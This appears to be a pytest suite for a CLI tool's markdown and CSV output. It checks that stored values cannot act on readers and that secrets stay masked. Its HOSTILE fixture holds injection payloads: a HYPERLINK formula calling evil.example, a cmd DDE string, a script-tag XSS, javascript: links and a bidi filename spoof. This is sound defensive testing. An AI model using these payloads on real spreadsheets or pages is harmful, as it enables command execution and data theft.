"""``--format markdown|csv``: the whole answer, in which nothing stored can act on its reader."""

import csv
import html
import io
import json
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from changelog.model.diff import Change, group_changes
from changelog.model.exits import DidError
from changelog.model.results.diff import DiffCounts, DiffedDid, DiffResult
from changelog.model.text.sanitize import escape
from changelog.render import markdown, tables
from changelog.render.style import Side
from changelog.render.tables import Table
from changelog.sandbox.server import Sandbox
from changelog.store.location import SqliteLocation
from tests.logbook import Logbook
from tests.program import KEY, Json, Program, invisible_in
from tests.render.test_reports import HARMLESS, tokens
from tests.test_layers import HEAVY

HIDDEN = "hidden-from-tickets"
READABLE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ")
RFC_3339 = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z")
FORMULA = re.compile(r"[=+\-@\t\r]")
FULL_WIDTH_EQUALS = "\uff1d"

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?x","click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1) @everybody",
    "spaced": "  =1+1",
    "full_width": f"{FULL_WIDTH_EQUALS}1+1",
    "apostrophe": "'=1",
    "tab": "\t=1",
    "carriage_return": "\r=1",
    "pipe": "a|b\\|c\\",
    "backtick": "`` ` |x",
    "html": "<script>alert(1)</script><img src=x>&lt;",
    "newline": "one\n| a | b |\n\n# two",
    "bidi": "\u202egnp.exe\u2066\u200b",
    "image": "![i](https://evil.example/i.png) [click](javascript:x)",
    "autolink": "<https://evil.example> www.evil.example ops@evil.example",
    "emphasis": "**b** _i_ ~~s~~ a_b $x$",
    "quotes": 'say "hi", then;\nleave',
}


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    with Sandbox(key=KEY) as running:
        yield running


@pytest.fixture(scope="module")
def program(sandbox: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Program:
    """Two captures: one change on two DIDs, a hidden one on a third, and a fourth that is new."""
    made = Program(tmp_path_factory.mktemp("formats"), api=sandbox)
    hidden = f"https://olga:{HIDDEN}@voice.example.com/support?key={HIDDEN}"
    sandbox.set_application("app_support", answer_url=hidden)
    one_by_one = ["--concurrency", "1"]
    about = ["--tag", "pre", "-m", "before the winter menu", "--ticket", "OPS-7"]
    made.record("did_101", "did_102", "did_103", *about, *one_by_one)
    for did in ("did_101", "did_102"):
        sandbox.move(did, application_id="app_maintenance", status="suspended")
    sandbox.set_application("app_support", answer_url=f"{hidden}-2")
    made.record("did_101", "did_102", "did_103", "did_104", "--tag", "post", *one_by_one)
    return made


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Program:
    """Every hostile value as id, number, routing, unknown field, note, ticket and author."""
    place = SqliteLocation(tmp_path_factory.mktemp("hostile") / "log.db")
    with Logbook(place) as book:
        for name, value in HOSTILE.items():
            did = f"did_{name}"
            about: dict[str, Any] = {"note": value, "ticket": value, "changed_by": value}
            fields: dict[str, Any] = {"number_e164": value, "status": value, value: value}
            fields["x"] = {value: [value]}
            book.see("app_a", did=did)
            capture = book.capture(**about)
            book.see(value, value, f"sip:{value}", did=did, capture=capture, **fields)
            book.see(value, did=value, capture=capture)
            capture.close()
    return Program(place.path.parent / "home", database=str(place.path))


EXPECTED = Path(__file__).parent / "formats"
LINES: dict[str, list[str]] = {
    "list": ["list"],
    "list-of-nothing": ["list", "--application", "nowhere"],
    "list-then": ["list", "--at", "tag:pre"],
    "diff": ["diff", "--from", "tag:pre", "--to", "tag:post"],
    "diff-of-some": ["diff", "did_101", "did_104", "nope"],
    "restore": ["restore", "did_102", "did_103", "did_104", "nope", "--offline"],
    "restore-of-one": ["restore", "did_101", "--offline"],
    "log": ["log", "-n", "4"],
    "log-of-one": ["log", "did_103"],
    "log-of-nothing": ["log", "--field", "nothing"],
    "log-snapshots": ["log", "--snapshots", "-n", "4"],
}
"""Name of the files in ``tests/formats/`` that hold the whole answer → the command line."""


def without_times(answer: str) -> str:
    answer = re.sub("in service [^,]+", "in service …", answer)
    return RFC_3339.sub("2026-11-23T14:00:00.000000Z", READABLE.sub("2026-11-23 14:00:00Z", answer))


@pytest.mark.parametrize("form", ["markdown", "csv"])
@pytest.mark.parametrize("name", LINES)
def test_the_whole_answer_is_as_expected(program: Program, name: str, form: str) -> None:
    ran, as_text = program.run_each([[*LINES[name], "--format", form], LINES[name]])
    expected = EXPECTED / f"{name}.{'md' if form == 'markdown' else form}"
    assert without_times(ran.stdout) == expected.read_text()
    assert ran.exit_code == as_text.exit_code


TOLD = ("diff", "diff-of-some", "restore", "restore-of-one", "log", "log-of-one", "log-snapshots")


@pytest.mark.parametrize("name", TOLD)
def test_the_whole_message_is_as_expected(program: Program, name: str) -> None:
    ran, as_text = program.run_each([[*LINES[name], "--format", "chat"], LINES[name]])
    assert without_times(ran.stdout) == (EXPECTED / f"{name}.chat").read_text()
    assert ran.exit_code == as_text.exit_code


CODE = re.compile("`[^`\n]*`")
STATE = re.compile(r"(?m)  \[[a-z0-9, ]+\]$")
"""Of a revision: brackets of our own."""
CALLS_OR_LINKS = re.compile(r"[<>@*~|#\[\]]|://|www\.")


@pytest.mark.parametrize("command", ["diff", "log", "restore"])
def test_no_hostile_value_is_more_than_text_in_a_chat(hostile: Program, command: str) -> None:
    more = {"restore": [*EVERY_DID, "--offline"], "log": ["-n", "999"]}.get(command, [])
    ran = hostile.run(command, *more, "--format", "chat").ended(0)
    assert invisible_in(ran.stdout) == []
    assert CALLS_OR_LINKS.findall(STATE.sub("", CODE.sub("", ran.stdout))) == []
    assert "everybody" in ran.stdout


@pytest.mark.parametrize("name", HOSTILE)
def test_the_ticket_of_a_hostile_did_is_one_heading_two_lists_and_a_table(
    hostile: Program, name: str
) -> None:
    ran = hostile.run("restore", f"did_{name}", "--offline", "--format", "markdown").ended(0)
    assert invisible_in(ran.stdout) == []
    kinds = {"heading", "strong", "list_item", "bullet_list", "ordered_list"}
    more = {f"{kind}_{end}" for kind in kinds for end in ("open", "close")}
    found = list(tokens(ran.stdout))
    assert {token.type for token in found} <= HARMLESS | more | {"softbreak"}
    assert sum(token.type == "heading_open" for token in found) == 1


def test_a_url_in_a_ticket_ends_where_it_ends(program: Program) -> None:
    page = program.run("restore", "did_101", "--offline", "--format", "markdown").ended(0).stdout
    assert "back to `https://***@voice.example.com/support?***` (masked" in page
    assert not re.search(r"[.)]`", page)
    assert "- To undo: `changelog restore did_101 --to r2`" in page


def test_what_csv_has_no_room_for_is_said_on_stderr(program: Program) -> None:
    cut = program.run("log", "-n", "1", "--format", "csv").ended(0)
    assert cut.stderr == "changelog: older entries are left out: -n N shows more\n"
    restored = program.run("restore", "did_103", "nope", "--offline", "--format", "csv").ended(5)
    assert without_times(restored.stderr) == (
        "changelog: nope: the log knows no DID 'nope'\n"
        "changelog: did_103: as of 2026-11-23 14:00:00Z, from the log\n"
    )


def test_a_did_that_the_log_does_not_know_has_no_answer_in_any_format(program: Program) -> None:
    for form in ("text", "markdown"):
        ran = program.run("log", "nope", "--format", form).ended(5)
        assert (ran.stdout, ran.stderr.splitlines()[0]) == (
            "",
            "changelog: the log knows no DID 'nope'",
        )


def test_markdown_masks_what_csv_gives_whole(program: Program) -> None:
    for line in LINES.values():
        assert HIDDEN not in program.run(*line, "--format", "markdown").stdout
    assert HIDDEN in program.run("list", "--format", "csv").stdout


@pytest.mark.parametrize("command", ["list", "diff", "restore", "log"])
def test_the_help_names_the_formats_and_another_one_is_a_wrong_argument(
    program: Program, command: str
) -> None:
    helped = program.run(command, "--help").ended(0)
    assert {"text", "json", "markdown", "csv"} <= set(re.findall("[a-z]+", helped.stdout))
    ran = program.run(command, "--format", "xml").ended(2)
    assert ran.stderr.startswith(
        "changelog: 'xml' is not a format of this command\n  Use one of: text, json, markdown, csv"
    )
    program.run("show", "did_101", "--format", "csv").ended(2)


# CSV against JSON


def routing_of(side: Json | None, names: list[str]) -> list[Any]:
    return [side[name] if side else None for name in names]


def list_rows(document: Json, columns: list[str]) -> list[list[Any]]:
    return [[one[name] for name in columns] for one in document["dids"]]


def log_rows(document: Json, columns: list[str]) -> list[list[Any]]:
    words = {"state", "tags"}
    return [
        [" ".join(one[name]) if name in words else one[name] for name in columns]
        for one in document["entries"]
    ]


def snapshot_rows(document: Json, _: list[str]) -> list[list[Any]]:
    rows = []
    for one in document["snapshots"]:
        error = one["error"] or {"status": None, "code": None, "message": None}
        seen = [one[name] for name in ("at", "did", "capture", "revision")]
        rows.append([*seen, error["status"], error["code"], error["message"]])
    return rows


def diff_rows(document: Json, _: list[str]) -> list[list[Any]]:
    rows = []
    for one in document["dids"]:
        head = [one[name] for name in ("did", "number", "from_revision", "to_revision")]
        error = [one["error"]["code"], one["error"]["message"]] if one["error"] else [None] * 2
        tail = [" ".join(one["not_read"]), *error]
        for change in one["changes"]:
            values = [change[name] for name in ("field", "before", "after", "routing")]
            rows.append([*head, "changed", *values, *tail])
        if not one["changes"]:
            outcome = "first_revision" if one["first_revision"] else "absent"
            outcome = "error" if one["error"] else outcome
            rows.append([*head, outcome, *[None] * 4, *tail])
    return rows


def restore_rows(document: Json, _: list[str]) -> list[list[Any]]:
    sides = ["revision", "application_id", "route_mode", "destination"]
    rows = []
    for one in document["dids"]:
        now, target = one["current"], one["target"]
        rows.append(
            [
                one["did"] or one["requested"],
                one["number"],
                one["visible"] if now else None,
                one["as_of"],
                *routing_of(now, sides),
                *routing_of(target, [*sides, "last_seen_at", "confidence"]),
                one["already_there"] if target else None,
                one["verify"],
                "; ".join(one["warnings"]),
                *([one["error"]["code"], one["error"]["message"]] if one["error"] else [None] * 2),
                one["apart"],
            ]
        )
    return rows


EVERY_DID = [f"did_{name}" for name in HOSTILE]
AGAINST_JSON: dict[str, tuple[list[str], Callable[[Json, list[str]], list[list[Any]]]]] = {
    "list": (["list"], list_rows),
    "log": (["log", "-n", "999"], log_rows),
    "log --snapshots": (["log", "--snapshots", "-n", "999"], snapshot_rows),
    "diff": (["diff"], diff_rows),
    "diff of some": (["diff", *EVERY_DID, "nope", HOSTILE["pipe"], "--all-fields"], diff_rows),
    "restore": (["restore", *EVERY_DID, "nope", "--offline"], restore_rows),
}
"""What is asked → the command line, and the rows that its JSON comes to."""


def meant(cell: str) -> str:
    """The value that a spreadsheet was kept from running."""
    return cell[1:] if re.match(f"'['\" ]*[=+@{FULL_WIDTH_EQUALS}-]", cell) else cell


def spelled(value: Any, cell: str) -> Any:
    """`value` of the JSON as it stands in `cell`."""
    if value is None or value == []:
        return ""
    if isinstance(value, str):
        return escape(value)
    assert json.loads(cell) == value
    return cell


@pytest.mark.parametrize("what", AGAINST_JSON)
def test_csv_read_back_has_the_values_of_the_json(hostile: Program, what: str) -> None:
    line, rows_of = AGAINST_JSON[what]
    as_csv, as_json = hostile.run_each([[*line, "--format", "csv"], [*line, "--json"]])
    columns, *rows = csv.reader(io.StringIO(as_csv.stdout))
    expected = rows_of(as_json.json, columns)
    assert len(rows) == len(expected) >= len(HOSTILE)
    for row, values in zip(rows, expected, strict=True):
        cells = [meant(cell) for cell in row]
        assert cells == [spelled(*pair) for pair in zip(values, cells, strict=True)]


@pytest.mark.parametrize("what", AGAINST_JSON)
def test_no_cell_is_a_formula_and_a_line_is_a_record(hostile: Program, what: str) -> None:
    ran = hostile.run(*AGAINST_JSON[what][0], "--format", "csv")
    rows = list(csv.reader(io.StringIO(ran.stdout)))
    assert len(rows) == len(ran.stdout.splitlines())
    assert [cell for row in rows for cell in row if is_formula(cell)] == []
    assert invisible_in(ran.stdout) == []


def is_formula(cell: str) -> bool:
    return bool(FORMULA.match(cell.lstrip(" "))) and not re.fullmatch("[+][0-9]+", cell)


# Markdown, read by rules of its own

CODE_OR_ESCAPE = re.compile(
    r"(?P<ticks>`+)(?P<code>.*?)(?<!`)(?P=ticks)(?!`)|\\(?P<mark>[!-/:-@[-`{-~])"
)


HAS_A_MEANING = re.compile(
    r"[<>`\[\]|*~$\\]|://|@|www\.|(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])", re.IGNORECASE
)


def shown(cell: str) -> str:
    """What a reader of Markdown makes of a cell; fails if any of it has a meaning."""
    text, end = "", 0
    for found in CODE_OR_ESCAPE.finditer(cell):
        text += _plain(cell[end : found.start()]) + (found["code"] or found["mark"])
        end = found.end()
    return text + _plain(cell[end:])


def _plain(part: str) -> str:
    assert not HAS_A_MEANING.search(part), part
    return html.unescape(part)


def cells_of(line: str) -> list[str]:
    """Any pipe ends a cell, behind a backslash and in code too: the strictest of all readers."""
    assert (line[:2], line[-2:]) == ("| ", " |")
    return [cell.strip() for cell in line[1:-1].split("|")]


def tables_of(page: str) -> list[list[dict[str, str]]]:
    """Each table's rows by column."""
    found = []
    for block in page.rstrip("\n").split("\n\n"):
        if block.startswith("|"):
            head, rule, *rows = map(cells_of, block.split("\n"))
            assert rule == ["---"] * len(head)
            found.append([dict(zip(head, row, strict=True)) for row in rows])
    return found


@pytest.mark.parametrize("what", AGAINST_JSON)
def test_no_hostile_value_breaks_out_of_its_cell(hostile: Program, what: str) -> None:
    ran = hostile.run(*AGAINST_JSON[what][0], "--format", "markdown")
    assert invisible_in(ran.stdout) == []
    assert tables_of(ran.stdout)
    for line in ran.stdout.splitlines():
        assert not re.search(r"<\w|\]\(|^#", line)
        for cell in cells_of(line) if line.startswith("|") else [line.removeprefix("- ")]:
            shown(cell)


IN_A_PAGE = {
    *HARMLESS,
    *("bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close"),
    *("ordered_list_open", "ordered_list_close"),
}


@pytest.mark.parametrize("what", AGAINST_JSON)
def test_a_ticket_finds_no_markup_in_a_whole_page(hostile: Program, what: str) -> None:
    ran = hostile.run(*AGAINST_JSON[what][0], "--format", "markdown")
    assert {token.type for token in tokens(ran.stdout)} <= IN_A_PAGE


def test_markdown_shows_each_value_as_it_is(hostile: Program) -> None:
    (rows,) = tables_of(hostile.run("list", "--format", "markdown").stdout)
    found = {shown(row["did"]): shown(row["application_id"]) for row in rows}
    for name in HOSTILE.keys() - {"formula", "image", "autolink"}:
        assert found[f"did_{name}"] == escape(HOSTILE[name]).strip()
    assert found["did_formula"] == '=HYPERLINK("http://evil.example/?***","click")'


def test_a_destination_that_was_learned_is_masked_whole_and_its_other_side_is_shown() -> None:
    change = Change("destination", None, f"https://voice.example.com/a?key=a {HIDDEN}")
    row = (change.field, Side(change, False), Side(change, True))
    table = Table(("field", "before", "after"), [row])
    assert markdown.markdown_table(table).splitlines()[-1] == (
        "| destination | - | `https://voice.example.com/a?***` |"
    )


TEXTS = st.text(
    st.sampled_from("|`\\<>[]()!*_~#&$@:/.;,-+=?'\" aB1\n\t\r\u202e\uff1dü"), max_size=24
)


@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS), min_size=1, max_size=4))
def test_a_table_has_as_many_cells_in_each_row_as_columns(rows: list[tuple[str, ...]]) -> None:
    content = Table(
        ("a", "b", "c"), [(f"x{one}", f"x{two}", f"x{three}") for one, two, three in rows]
    )
    ((*read,),) = tables_of(markdown.markdown_table(content))
    assert len(read) == len(rows)
    for row, values in zip(read, rows, strict=True):
        assert row.keys() == set(content.columns)
        if not any("://" in value for value in values):
            expected = [escape(f"x{value}").strip() for value in values]
            assert [shown(cell) for cell in row.values()] == expected


@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS), max_size=4))
def test_no_text_becomes_a_formula_and_each_can_be_had_back(rows: list[tuple[str, ...]]) -> None:
    content = Table(("a", "b", "c"), rows)
    _, *read = csv.reader(io.StringIO(tables.csv_table(content)))
    assert not any(is_formula(cell) for row in read for cell in row)
    assert [[meant(cell) for cell in row] for row in read] == [
        [escape(value) for value in row] for row in rows
    ]


@given(st.integers(0, 10**15))
def test_a_telephone_number_stays_one(number: int) -> None:
    assert tables.csv_table(Table(("number",), [(f"+{number}",)])) == f"number\n+{number}\n"


# Large fleets, and light starts


def large_diff(dids: int) -> DiffResult:
    """Every DID changed in its own way, three that were not compared among them."""
    changes = {
        f"did_{n:06}": (Change("application_id", f"app_{n}", "app_b", routing=True),)
        for n in range(dids)
    }
    strange = (
        DiffedDid(did="new", to_revision=1, first_revision=True),
        DiffedDid(did="absent", from_revision=1),
        DiffedDid(did="failed", error=DidError("timeout", "no answer in time")),
    )
    changed = tuple(
        DiffedDid(did=did, from_revision=1, to_revision=2, changes=made)
        for did, made in changes.items()
    )
    return DiffResult(
        from_="tag:pre",
        to="tag:post",
        counts=DiffCounts(compared=dids, changed=dids, absent=2),
        dids=(*changed, *strange),
        groups=group_changes(changes),
    )


def test_a_diff_too_large_for_a_ticket_says_so_and_still_names_what_was_not_compared() -> None:
    most = markdown.MOST_ROWS
    page = markdown.document("diff", large_diff(5 * most))
    groups, rest = tables_of(page)
    assert len(groups) == most
    assert f"… {4 * most} more groups" in page
    assert f"{5 * most + 3} rows, one a DID and field: `--format csv` has them all." in page
    assert [(row["did"], row["outcome"], row["error"]) for row in rest] == [
        ("new", "first_revision", "-"),
        ("absent", "absent", "-"),
        ("failed", "error", "timeout"),
    ]


def test_csv_leaves_out_nothing_of_a_large_diff() -> None:
    rows = list(csv.DictReader(io.StringIO(tables.document("diff", large_diff(5_000)))))
    assert len(rows) == 5_003
    assert [row["outcome"] for row in rows[-4:]] == ["changed", "first_revision", "absent", "error"]


@pytest.mark.parametrize("form", ["plain", "text", "markdown", "csv"])
def test_a_restore_imports_a_format_only_if_it_is_asked_for(program: Program, form: str) -> None:
    modules = [f"changelog.render.{name}" for name in ("documents", "markdown", "tables")]
    line = ["restore", "did_101", "--offline", "--format", form]
    looked_for = [*HEAVY, *modules]
    code = (
        f"import sys\nfrom changelog.cli.main import main\nmain({line!r})\n"
        f"print('\\nFOUND', *[name for name in {looked_for!r} if name in sys.modules])"
    )
    ended = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        check=True,
        env=program.environment,
    )
    found = ended.stdout.splitlines()[-1].split()[1:]
    expected = {
        "markdown": modules,
        "csv": ["changelog.render.documents", "changelog.render.tables"],
    }
    assert sorted(found) == expected.get(form, [])
